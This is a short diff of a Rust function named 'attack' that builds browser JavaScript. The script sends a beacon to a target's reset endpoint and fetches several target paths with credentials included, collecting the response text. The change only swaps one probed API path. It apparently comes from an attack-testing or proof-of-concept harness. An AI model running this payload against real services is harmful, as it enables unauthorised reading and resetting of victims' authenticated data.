@@ -39,7 +39,7 @@ fn attack(tab: &mut Tab, from: &str, target: &str) {
             }} catch {{}}
           }}
           navigator.sendBeacon('{target}/api/v1/reset', body);
-          for (const path of ['', '/', '/api/v1/status', '/api/v1/stream', '/admin.js']) {{
+          for (const path of ['', '/', '/api/v1/status', '/api/v1/samples', '/admin.js']) {{
             try {{
               const response = await fetch('{target}' + path, {{ credentials: 'include' }});
               read.push(await response.text());
